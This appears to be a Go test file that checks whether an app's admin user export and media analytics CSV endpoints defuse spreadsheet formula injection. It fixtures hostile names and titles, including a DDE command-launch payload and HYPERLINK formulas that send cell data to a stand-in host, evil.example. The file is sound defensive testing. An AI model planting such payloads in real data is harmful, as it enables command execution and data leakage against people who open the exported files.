package routes_test

import (
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"
	"unicode"

	"github.com/pocketbase/dbx"
	"github.com/pocketbase/pocketbase/core"
	"github.com/pocketbase/pocketbase/tests"

	"selah/testutil"
)

// hostileUsers are accounts whose email and name a spreadsheet would run as
// formulas if a CSV carried them raw.
var hostileUsers = []struct{ email, name string }{
	{"=2+5@example.com", "@SUM(1+1)"},
	{"+1@example.com", "+cmd|' /C calc'!A0"},
	{"-2+3@example.com", "\t=1"},
	{"tab@example.com", "\r=cmd"},
	{"wide@example.com", "＝1+1"},
	{"space@example.com", "  =HYPERLINK(\"http://evil.example\",\"x\")"},
	{"number@example.com", "-3"}, // a plain number: left as it is
}

// readCSV parses an answer as a spreadsheet would read it (rows may differ
// in length) and fails on any cell a spreadsheet could take for a formula.
func readCSV(t testing.TB, body string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(body))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, body)
	}
	for _, row := range rows {
		for _, cell := range row {
			if formulaCell(cell) {
				t.Errorf("cell %q could run as a formula", cell)
			}
		}
	}
	return rows
}

// formulaCell is the check, written apart from internal/csvsafe: the cell
// starts with a tab or CR, or its first non-space character is a formula
// sign (ASCII or full-width), and it is not a plain number.
func formulaCell(cell string) bool {
	if cell == "" {
		return false
	}
	if cell[0] == '\t' || cell[0] == '\r' {
		return true
	}
	trimmed := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || r == '\uFEFF' })
	if trimmed == "" || !strings.ContainsRune("=+-@＝＋－＠", []rune(trimmed)[0]) {
		return false
	}
	n := strings.TrimLeft(cell, "+-")
	plain := len(cell)-len(n) <= 1 && n != "" && strings.Trim(n, "0123456789") == "" // whole numbers suffice here
	return !plain
}

func responseText(t testing.TB, res *http.Response) string {
	t.Helper()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func hasCell(rows [][]string, want string) bool {
	for _, row := range rows {
		for _, cell := range row {
			if cell == want {
				return true
			}
		}
	}
	return false
}

func TestUsersExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	headers := map[string]string{}
	sc := tests.ApiScenario{
		Name: "GET /api/admin/users/export.csv (hostile users)", Method: http.MethodGet,
		URL: "/api/admin/users/export.csv", Headers: headers,
		BeforeTestFunc: func(t testing.TB, app *tests.TestApp, _ *core.ServeEvent) {
			headers["Authorization"] = "Bearer " + testutil.Token(t, testutil.CreateAdmin(t, app, "staff@example.com"))
			for _, u := range hostileUsers {
				rec := testutil.CreateUser(t, app, u.email, testutil.UserOpts{})
				// A raw write: names with control characters are refused
				// now, but older rows (or a script's) may hold them.
				if _, err := app.DB().Update("users", dbx.Params{"name": u.name}, dbx.HashExp{"id": rec.Id}).Execute(); err != nil {
					t.Fatal(err)
				}
			}
		},
		ExpectedStatus: 200, ExpectedContent: []string{"id,name,email,status,subscription,verified,uploads,joined"},
		TestAppFactory: testutil.Factory,
		AfterTestFunc: func(t testing.TB, _ *tests.TestApp, res *http.Response) {
			body := responseText(t, res)
			rows := readCSV(t, body)
			if len(rows) != len(hostileUsers)+1 {
				t.Fatalf("%d rows, want %d:\n%s", len(rows), len(hostileUsers)+1, body)
			}
			// Nothing is lost: the quote only marks the cell as text.
			for _, want := range []string{"'=2+5@example.com", "'@SUM(1+1)", "'+1@example.com", "'+cmd|' /C calc'!A0",
				"'-2+3@example.com", "'\t=1", "'\r=cmd", "'＝1+1", "'  =HYPERLINK(\"http://evil.example\",\"x\")", "-3"} {
				if !hasCell(rows, want) {
					t.Errorf("no cell %q in\n%s", want, body)
				}
			}
		},
	}
	sc.Test(t)
}

func TestAnalyticsCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	const hostileTitle = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	headers := map[string]string{}
	sc := tests.ApiScenario{
		Name: "GET /api/media/analytics.csv (hostile title)", Method: http.MethodGet,
		URL: "/api/media/analytics.csv?days=7", Headers: headers,
		BeforeTestFunc: func(t testing.TB, app *tests.TestApp, _ *core.ServeEvent) {
			playsFixture(t, app, &meFixture{})
			// As a creator could name it (a raw write keeps the fixture's
			// approval, which an edit would reset).
			if _, err := app.DB().Update("media", dbx.Params{"title": hostileTitle}, dbx.HashExp{"id": idSongMedia}).Execute(); err != nil {
				t.Fatal(err)
			}
			other, _ := app.FindAuthRecordByEmail("users", "other@example.com")
			headers["Authorization"] = "Bearer " + testutil.Token(t, other)
		},
		ExpectedStatus: 200, ExpectedContent: []string{"date,plays,guestPlays,signedInPlays,downloads,listeners"},
		TestAppFactory: testutil.Factory,
		AfterTestFunc: func(t testing.TB, _ *tests.TestApp, res *http.Response) {
			body := responseText(t, res)
			rows := readCSV(t, body)
			if !hasCell(rows, "'"+hostileTitle) {
				t.Errorf("the top items do not list %q as text:\n%s", hostileTitle, body)
			}
		},
	}
	sc.Test(t)
}
